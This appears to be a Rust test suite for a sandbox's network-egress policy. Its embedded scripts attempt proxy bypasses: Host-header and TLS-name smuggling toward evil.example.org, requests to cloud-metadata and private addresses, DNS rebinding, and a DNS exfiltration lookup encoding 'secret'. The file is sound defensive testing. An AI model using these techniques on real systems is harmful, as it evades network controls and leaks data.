//! Programs that know no proxy: connections that they make by themselves are judged like those by the proxy.

use std::sync::Arc;

use haft::approval::Decision;
use haft::policy::RuleSet;
use haft_sandbox::Sandbox;
use serde_json::json;

use crate::ask::{allowing, next, scene, town, with_people, yes};
use crate::public;
use crate::rows::{LIST, Row};
use crate::town::{Does, Town, page};

/// Attempts with the hosts of a list.
#[rustfmt::skip]
pub(crate) const ROWS: &[Row] = &[
    Row { name: "TLS without the proxy", hosts: LIST, script: "go('https://example.com/a?b=c')", prints: &["READ 200 GET /a?b=c HTTP/1.1"], refused: "", connected: &[443] },
    Row { name: "plain HTTP without the proxy", hosts: LIST, script: "go('http://example.com/a?b=c')\ngo(urllib.request.Request('http://EXAMPLE.com/', data=b'x' * 5000))", prints: &["READ 200 GET /a?b=c HTTP/1.1", "ontent-length: 5000\r\n"], refused: "", connected: &[80, 80] },
    Row { name: "a host that is not listed, without the proxy", hosts: LIST, script: "go('https://pypi.org/')", prints: &["ACCESS_DENIED"], refused: "pypi.org:443 is not one of the hosts that commands may reach here", connected: &[] },
    Row { name: "the same in plain HTTP, without the proxy", hosts: LIST, script: "go('http://pypi.org/')", prints: &["HTTP 403", "haft: pypi.org:80 is not one of the hosts"], refused: "pypi.org:80", connected: &[] },
    Row { name: "another protocol to a host that is listed", hosts: LIST, script: "says('example.com', 22, b'SSH-2.0-x\\r\\n')", prints: &["GOT ''"], refused: "example.com:22 is not one of the hosts", connected: &[] },
    Row { name: "a port that is listed, without the proxy", hosts: &["example.com:8443"], script: "go('https://example.com:8443/')\nsecure('example.com', 'evil.example.org', 8443)", prints: &["READ 200", "NO TLS"], refused: "names evil.example.org", connected: &[8443, 8443] },
    Row { name: "HTTP at another port that is listed", hosts: &["example.com:8400"], script: "go('http://example.com:8400/x')\nsays('example.com', 8400, b'GET / HTTP/1.1\\r\\nHost: evil.example.org\\r\\n\\r\\n')", prints: &["READ 200 GET /x HTTP/1.1", "HTTP/1.1 403"], refused: "must name the same host", connected: &[8400, 8400] },
    Row { name: "HTTP at another port after empty lines, by any method, or in another form", hosts: &["example.com:8400"], script: "for start in ['\\r\\nGET /', '\\n\\n GET /', 'PROPFIND /', 'TRACE /', 'CONNECT x:1', 'REPORT /', 'get /', 'A-Z!\\t/', 'GET http://evil.example.org/', 'get http://evil.example.org/', 'PRI *']:\n  for version in ['HTTP/1.1', 'http/1.0', 'HTTP/2.0']:\n    s = direct('example.com', 8400); s.sendall(f'{start} {version}\\r\\nHost: evil.example.org\\r\\n\\r\\n'.encode()); print('REACHED' if 'evil' in rest(s) else 'HELD', repr(start), version)\ngo('http://example.com:8400/x')", prints: &["HELD 'PRI *' HTTP/2.0", "READ 200 GET /x HTTP/1.1"], refused: "must name the same host", connected: &[8400; 34] },
    Row { name: "HTTP at another port, byte by byte", hosts: &["example.com:8400"], script: "s = direct('example.com', 8400)\ns.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)\nfor byte in b'PROPFIND /p HTTP/1.1\\r\\nHost: example.com\\r\\n\\r\\n': s.send(bytes([byte]))\nprint(rest(s))", prints: &["HTTP/1.1 200 OK", "PROPFIND /p HTTP/1.1"], refused: "", connected: &[8400] },
    Row { name: "another protocol at a port that is listed", hosts: &["example.com:5432"], script: "says('example.com', 5432, b'\\0\\0\\0\\x08 hello\\r\\n\\r\\n')", prints: &["GOT 'HTTP/1.1 200"], refused: "", connected: &[5432] },
    Row { name: "a hello for another name", hosts: LIST, script: "secure('example.com', 'other.example.org')", prints: &["ACCESS_DENIED"], refused: "the TLS hello names other.example.org", connected: &[] },
    Row { name: "a hello without a name", hosts: LIST, script: "secure('example.com', None)", prints: &["INSIDE HTTP/1.1 200 OK"], refused: "", connected: &[443] },
    Row { name: "a hello in single bytes", hosts: LIST, script: "s = direct('example.com', 443)\ns.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)\nfor byte in hello('example.com'): s.send(bytes([byte]))\ns.shutdown(socket.SHUT_WR)\nprint('ANSWERED' if rest(s) else 'NOTHING', 'INSIDE')", prints: &["ANSWERED"], refused: "", connected: &[443] },
    Row { name: "a hello that hides its name", hosts: LIST, script: "says('example.com', 443, hello('example.com', b'\\xfe\\x0d\\0\\x09' + b'x' * 9))", prints: &["GOT '\\x15\\x03"], refused: "hides the host (ECH)", connected: &[] },
    Row { name: "a hello of 20,000 bytes", hosts: LIST, script: "says('example.com', 443, hello('example.com', b'\\0\\x15\\x4e\\x20' + b'\\0' * 20000))", prints: &["GOT '"], refused: "its TLS hello is too long", connected: &[] },
    Row { name: "no TLS at its port", hosts: LIST, script: "says('example.com', 443, b'SSH-2.0-x\\r\\n')", prints: &["GOT '"], refused: "does not begin with TLS", connected: &[] },
    Row { name: "no HTTP at its port", hosts: LIST, script: "says('example.com', 80, b'SSH-2.0-x\\r\\n\\r\\n')", prints: &["GOT '"], refused: "does not begin with an HTTP request", connected: &[] },
    Row { name: "a Host of another, without the proxy", hosts: LIST, script: "says('example.com', 80, b'GET / HTTP/1.1\\r\\nHost: a.example.org\\r\\n\\r\\n')\nsays('example.com', 80, b'GET / HTTP/1.1\\r\\n\\r\\n')\nsays('example.com', 80, b'GET / HTTP/1.1\\r\\nHost: example.com\\r\\nHost: a.example.org\\r\\n\\r\\n')", prints: &["HTTP/1.1 403"], refused: "must name the same host", connected: &[] },
    Row { name: "a whole URL without the proxy", hosts: LIST, script: "says('example.com', 80, b'GET http://a.example.org/ HTTP/1.1\\r\\nHost: example.com\\r\\n\\r\\n')\nsays('example.com', 80, b'CONNECT a.example.org:443 HTTP/1.1\\r\\nHost: a.example.org\\r\\n\\r\\n')", prints: &["HTTP/1.1 400"], refused: "names a path", connected: &[] },
    Row { name: "two requests without the proxy", hosts: LIST, script: "says('example.com', 80, b'GET /1 HTTP/1.1\\r\\nHost: example.com\\r\\n\\r\\nGET /2 HTTP/1.1\\r\\nHost: example.com\\r\\n\\r\\n')", prints: &["HTTP/1.1 200"], refused: "", connected: &[80] },
    Row { name: "a listed address without the proxy", hosts: &["93.184.216.34"], script: "secure('93.184.216.34', None)\nsecure('93.184.216.34', 'example.com')", prints: &["INSIDE", "ACCESS_DENIED"], refused: "names example.com", connected: &[443] },
    Row { name: "private addresses without the proxy", hosts: LIST, script: "for host in ['10.0.0.1', '169.254.169.254', '192.168.0.1', '100.100.100.200', 'fd00:ec2::254', '::ffff:10.0.0.2']: secure(host, None); go(f'http://[{host}]/' if ':' in host else f'http://{host}/')", prints: &["ACCESS_DENIED", "HTTP 403"], refused: "10.0.0.1 is not on the public network", connected: &[] },
    Row { name: "a name of a private address, without the proxy", hosts: &["private.example.com", "meta.example.com", "mixed.example.com"], script: "go('https://private.example.com/')\ngo('http://meta.example.com/')\ngo('http://mixed.example.com/')", prints: &["ACCESS_DENIED", "HTTP 403"], refused: "resolves to 169.254.169.254", connected: &[] },
    Row { name: "a name that changes its address, without the proxy", hosts: &["rebind.example.com"], script: "go('http://rebind.example.com/')\ngo('http://rebind.example.com/')", prints: &["READ 200", "HTTP 403"], refused: "resolves to 127.0.0.1", connected: &[80] },
    Row { name: "the jail's own addresses", hosts: LIST, script: "for host in ['127.0.0.1', '127.9.9.9', '::1', '0.0.0.0', '198.18.0.1']: says(host, 443, hello('example.com')); says(host, 80, b'GET / HTTP/1.1\\r\\nHost: example.com\\r\\n\\r\\n')", prints: &["GOT ''"], refused: "", connected: &[] },
    Row { name: "an address that stands for no name", hosts: LIST, script: "says('198.18.77.77', 443, hello('example.com'))\nsays('198.19.255.255', 80, b'GET / HTTP/1.1\\r\\nHost: example.com\\r\\n\\r\\n')", prints: &["GOT ''"], refused: "198.18.77.77:443 stands for no host", connected: &[] },
    Row { name: "an address that stands for a name, to the proxy", hosts: LIST, script: "connect(socket.gethostbyname('example.com') + ':443')", prints: &["HTTP/1.1 403"], refused: "stands for example.com in this jail", connected: &[] },
    Row { name: "names", hosts: LIST, script: "one = socket.getaddrinfo('example.com', 443)\nprint(one == socket.getaddrinfo('EXAMPLE.com', 443), one[0][4][0].startswith('198.1'), len(one) > 0)\nfor name in ['router', 'printer.local', 'x.onion', 'nothing.invalid', '7.0.0.10.in-addr.arpa']: fails(name, lambda: socket.getaddrinfo(name, 443))\nfails('reverse', lambda: socket.gethostbyaddr('10.0.0.7'))\nprint(socket.gethostbyname('localhost'), socket.getaddrinfo('example.com', 443, socket.AF_INET, 0, 0, socket.AI_ADDRCONFIG)[0][4] == one[0][4])\nassert len({ask(question('example.com'), (place, 53)) for place in ['127.0.0.1', '8.8.8.8', '169.254.169.254']}) == 1\nprint(list(ask(b'\\7\\7\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\xc0\\x0c\\0\\1\\0\\1'))[3] & 15)", prints: &["True True True", "REFUSED router", "REFUSED printer.local", "REFUSED x.onion", "REFUSED nothing.invalid", "REFUSED 7.0.0.10", "REFUSED reverse", "127.0.0.1 True", "1\n"], refused: "", connected: &[] },
    Row { name: "questions over TCP", hosts: LIST, script: "s = direct('9.9.9.9', 53)\nfor n in range(3): s.sendall(len(question('example.com')).to_bytes(2, 'big') + question('example.com')); print(len(s.recv(2)), len(s.recv(4096)))\ns.sendall(b'\\0\\3abc')\nprint('CLOSED', rest(s) == '')", prints: &["2 45", "CLOSED True"], refused: "", connected: &[] },
    Row { name: "ten thousand names, and a connection afterwards", hosts: LIST, script: "link = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nlink.connect(('127.0.0.1', 53))\nfor n in range(10000):\n    link.send(question(f'h{n}.example.org')); link.recv(512)\ngo('http://example.com/')", prints: &["READ 200"], refused: "", connected: &[80] },
    Row { name: "five thousand connections, and one afterwards", hosts: LIST, script: "host = socket.gethostbyname('example.com')\nfor n in range(5000): socket.create_connection((host, (22, 80, 443)[n % 2 + 1]), 20).close()\ngo('https://example.com/')", prints: &["READ 200"], refused: "", connected: &[443] },
    Row { name: "connections that say nothing", hosts: LIST, script: "silent = [direct(*place) for place in [('example.com', 443), ('example.com', 80), ('example.com', 53)]]\nsilent[0].sendall(hello('example.com')[:50])\nfor s in silent: s.settimeout(60); print('CLOSED', len(rest(s)) < 200)", prints: &["CLOSED True\nCLOSED True\nCLOSED True"], refused: "no TLS hello came in time", connected: &[] },
    Row { name: "servers of the command", hosts: LIST, script: "def bind(host, port):\n    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1); s.bind((host, port)); s.listen(); return s\nfor place in [('0.0.0.0', 443), ('127.0.0.1', 80), ('0.0.0.0', 53)]: fails(place, lambda: bind(*place))\nfor place in [('0.0.0.0', 8080), ('127.0.0.1', 3000)]: s = bind(*place); direct('127.0.0.1', place[1]).close(); print('SERVED', s.accept()[1][0])", prints: &["REFUSED ('0.0.0.0', 443)", "REFUSED ('127.0.0.1', 80)", "REFUSED ('0.0.0.0', 53)", "SERVED 127.0.0.1\nSERVED 127.0.0.1"], refused: "", connected: &[] },
    Row { name: "curl without the proxy", hosts: LIST, script: "import shutil, subprocess\nrun = lambda *words: print(subprocess.run(['curl', '-sS', '--noproxy', '*', '--cacert', 'ca.crt', *words], capture_output=True, text=True))\nprint('INSIDE')\nif shutil.which('curl'): run('https://example.com/a'); run('http://pypi.org/')\nelse: go('https://example.com/a'); print('haft: pypi.org:80'); go('http://pypi.org/')", prints: &["GET /a HTTP/1.1", "haft: pypi.org:80"], refused: "pypi.org:80", connected: &[443] },
];

pub(crate) async fn all(sandbox: &Sandbox) {
    a_person_decides_about_connections_of_any_program(sandbox).await;
    a_host_that_is_not_reached_is_named_in_the_result(sandbox).await;
    one_decision_holds_for_both_ways(sandbox).await;
    a_name_is_not_looked_up_before_its_connection_is_allowed(sandbox).await;
    a_rule_opens_a_port_of_any_protocol(sandbox).await;
    a_name_that_cannot_be_allowed_is_not_looked_up(sandbox).await;
    a_connection_changes_its_protocol_if_its_host_agrees(sandbox).await;
    runtimes_that_read_no_proxy_variable_connect_by_themselves(sandbox).await;
}

const JAVA: &str = r#"import java.net.*;
public class Get { public static void main(String[] urls) throws Exception {
    for (String url : urls) try {
        System.out.println("READ " + ((HttpURLConnection) new URL(url).openConnection()).getResponseCode());
    } catch (java.io.IOException error) { System.out.println(error); }
} }"#;

const NODE: &str = "
const https = require('https');
for (const url of process.argv.slice(1)) https.get(url, (answer) => console.log('READ', answer.statusCode)).on('error', (error) => console.log(String(error)));";

async fn runtimes_that_read_no_proxy_variable_connect_by_themselves(sandbox: &Sandbox) {
    let town = town().await;
    let scene = scene(sandbox, &town, allowing(&["Network(example.com)"]));
    std::fs::write(scene.root().join("Get.java"), JAVA).unwrap();
    let node = json!([
        "node",
        "-e",
        NODE,
        "https://example.com/",
        "https://pypi.org/"
    ]);
    let java = json!([
        "java",
        "Get.java",
        "http://example.com/",
        "https://pypi.org/"
    ]);
    for (program, argv) in [("node", node), ("java", java)] {
        if !scene.line(&format!("command -v {program}")).await.ok {
            eprintln!("SKIPPED: no {program} in the jail");
            continue;
        }
        let ca = scene.root().join("ca.crt");
        let env = json!({ "NODE_USE_ENV_PROXY": "", "NODE_EXTRA_CA_CERTS": ca });
        let call = json!({ "argv": argv, "env": env, "timeout_s": 120 });
        let outcome = scene.call(call).await;
        let shown = serde_json::to_string(&outcome).unwrap();
        assert!(shown.contains("READ 200"), "{program}: {shown}");
        let refused = shown.to_lowercase().replace('_', " ");
        assert!(refused.contains("access denied"), "{program}: {shown}");
        assert!(
            shown.contains("connection to pypi.org:443 refused"),
            "{program}: {shown}"
        );
    }
}

async fn a_person_decides_about_connections_of_any_program(sandbox: &Sandbox) {
    let town = town().await;
    let (scene, mut requests) = with_people(scene(sandbox, &town, allowing(&[])));
    let script = "go('https://example.com/')\nsays('git.example.org', 22, b'SSH-2.0-x\\r\\n\\r\\n')\nsecure('93.184.216.34', None)\ngo('http://other.example.org/')";
    let people = async {
        next(&mut requests, "example.com:443").await.decide(yes());
        next(&mut requests, "git.example.org:22")
            .await
            .decide(yes());
        let pending = next(&mut requests, "93.184.216.34:443").await;
        pending.decide(Decision::deny("ann", "test"));
        let pending = next(&mut requests, "other.example.org:80").await;
        pending.decide(Decision::deny("ann", "test"));
    };
    let (seen, ()) = tokio::join!(scene.script(script), people);
    let out = seen.data["stdout"].as_str().unwrap();
    for printed in [
        "READ 200",
        "GOT 'HTTP/1.1 200",
        "ACCESS_DENIED",
        "HTTP 403",
        "ann said no",
    ] {
        assert!(out.contains(printed), "{printed}: {out}");
    }
    assert_eq!(town.connected(), [public(443), public(22)]);
    let refused = seen.data["network_refused"].as_array().unwrap();
    assert_eq!(refused.len(), 2, "{refused:?}");
    let reached = serde_json::to_string(&seen.data["network_reached"]).unwrap();
    assert_eq!(reached, r#"["example.com:443","git.example.org:22"]"#);
}

async fn a_host_that_is_not_reached_is_named_in_the_result(sandbox: &Sandbox) {
    let town = town().await;
    town.answers("gone.example.com", &[&[]]);
    let scene = scene(sandbox, &town, allowing(&["Network(gone.example.com)"]));
    let seen = scene.script("go('https://gone.example.com/')").await;
    let lines = serde_json::to_string(&seen.data["network_refused"]).unwrap();
    assert!(lines.contains("gone.example.com"), "{}", seen.shown);
}

async fn one_decision_holds_for_both_ways(sandbox: &Sandbox) {
    let town = town().await;
    let (scene, mut requests) = with_people(scene(sandbox, &town, allowing(&[])));
    let script =
        "get('https://example.com/')\ngo('https://example.com/')\ngo('https://example.com/')";
    let people = async {
        next(&mut requests, "example.com:443").await.decide(yes());
        requests.next().await.is_none()
    };
    let seen = tokio::select! {
        seen = scene.script(script) => seen,
        _ = people => panic!("it was asked about twice"),
    };
    let out = seen.data["stdout"].as_str().unwrap();
    assert_eq!(out.matches("READ 200").count(), 3, "{out}");
}

async fn a_name_is_not_looked_up_before_its_connection_is_allowed(sandbox: &Sandbox) {
    let town = town().await;
    let scene = scene(sandbox, &town, allowing(&["Network(example.com)"]));
    let script = "for name in ['c2VjcmV0.evil.example', 'example.com']: print(socket.gethostbyname(name))\ngo('https://d2hv.evil.example/')\ngo('https://example.com/')";
    let seen = scene.script(script).await;
    let out = seen.data["stdout"].as_str().unwrap();
    assert!(out.contains("READ 200"), "{out}");
    assert_eq!(town.looked_up(), ["example.com"], "{out}");
}

async fn a_rule_opens_a_port_of_any_protocol(sandbox: &Sandbox) {
    let town: Arc<Town> = town().await;
    town.answers("db.internal", &[&["10.0.0.7"]]);
    let rules = allowing(&["Network(db.internal:5432)", "Network(localhost:6379)"]);
    let scene = scene(sandbox, &town, rules);
    // A port of this machine's own servers is not taken: the command may have one there.
    let script = "says('db.internal', 5432, b'\\0\\0\\0\\x08\\r\\n\\r\\n')\nserver = socket.create_server(('', 6379))\nprint('LISTENS')";
    let seen = scene.script(script).await;
    let out = seen.data["stdout"].as_str().unwrap_or_default();
    assert!(out.contains("GOT 'HTTP/1.1 200"), "{}", seen.shown);
    assert!(out.contains("LISTENS"), "{}", seen.shown);
    let reached: Vec<String> = town.connected().iter().map(ToString::to_string).collect();
    assert_eq!(reached, ["10.0.0.7:5432"]);
}

async fn a_name_that_cannot_be_allowed_is_not_looked_up(sandbox: &Sandbox) {
    let town = town().await;
    let denied = RuleSet {
        deny: vec!["Network(*.internal)".into()],
        ..allowing(&["Network(db.corp:443)"])
    };
    let (scene, mut requests) = with_people(scene(sandbox, &town, denied));
    let script =
        "go('https://secret.internal/')\nopened('secret2.internal:443')\nopened('db.corp:443')";
    let seen = tokio::select! {
        seen = scene.script(script) => seen,
        pending = requests.next() => panic!("{:?}", pending.unwrap().request().arguments),
    };
    assert_eq!(town.looked_up(), ["db.corp", "db.corp"], "{}", seen.shown);
    let refused = seen.data["network_refused"].as_array().unwrap();
    assert_eq!(refused.len(), 2, "{refused:?}");
    for line in refused {
        let line = line.as_str().unwrap();
        assert!(line.contains("*.internal"), "{line}");
    }
    // Nobody can be asked.
    let scene = crate::ask::scene(sandbox, &town, allowing(&[]));
    let seen = scene.script("go('https://secret.internal/')").await;
    assert_eq!(town.looked_up().len(), 2, "{}", seen.shown);
    assert!(seen.shown.contains("no approver"), "{}", seen.shown);
}

const UPGRADE: &str = "
def upgrade(stream, target, protocol):
    words = f'GET {target} HTTP/1.1\\r\\nHost: example.com\\r\\nConnection: keep-alive, Upgrade\\r\\nUpgrade: {protocol}\\r\\nSec-WebSocket-Key: eA==\\r\\n\\r\\n'
    stream.sendall(words.encode())
    head = stream.recv(4096).decode()
    while 'SWITCHED' not in head and 'here' not in head: head += stream.recv(4096).decode()
    # The host closes once it has read this.
    if 'SWITCHED' in head: stream.sendall(b'x')
    print(protocol, head.split()[1], 'upgrade: ' in head.lower(), repr(rest(stream)))
";

async fn a_connection_changes_its_protocol_if_its_host_agrees(sandbox: &Sandbox) {
    let town = Town::new(|asked| {
        let text = asked.text.to_lowercase();
        let protocol = text.split("\r\nupgrade: ").nth(1);
        match protocol.and_then(|rest| rest.lines().next()) {
            Some(protocol) => Does::Hangs(
                format!("HTTP/1.1 101 Switching\r\nUpgrade: {protocol}\r\nConnection: Upgrade\r\n\r\nSWITCHED")
                    .into_bytes(),
            ),
            None => page("text/plain", "here"),
        }
    })
    .await;
    let rules = ["Network(example.com)", "Network(example.com:8400)"];
    let scene = scene(sandbox, &town, allowing(&rules));
    let script = format!(
        "{UPGRADE}
upgrade(direct('example.com', 80), '/', 'websocket')
upgrade(direct('example.com', 80), '/', 'h2c, SPDY/3.1')
upgrade(direct('example.com', 80), '/', 'h2c')
upgrade(direct('example.com', 8400), '/', 'tcp')
upgrade(direct('example.com', 8400), '/', 'h2c ')
upgrade(dial(), 'http://example.com/', 'websocket ')
upgrade(dial(), 'http://example.com/', 'TLS/1.0')
says('example.com', 80, b'GET / HTTP/1.1\\r\\nHost: a.example.org\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\n\\r\\n')"
    );
    let seen = scene.script(&script).await;
    let out = seen.data["stdout"].as_str().unwrap_or_default();
    for line in [
        "websocket 101 True ''",
        "h2c, SPDY/3.1 101 True ''",
        "h2c 200 False ''",
        "tcp 101 True ''",
        "h2c  101 True ''",
        "websocket  101 True ''",
        "TLS/1.0 200 False ''",
    ] {
        let is_there = out.lines().any(|printed| printed == line);
        assert!(is_there, "{line}: {}", seen.shown);
    }
    assert!(out.contains("GOT 'HTTP/1.1 403"), "{out}");
    assert_eq!(town.connected().len(), 7, "{out}");
}
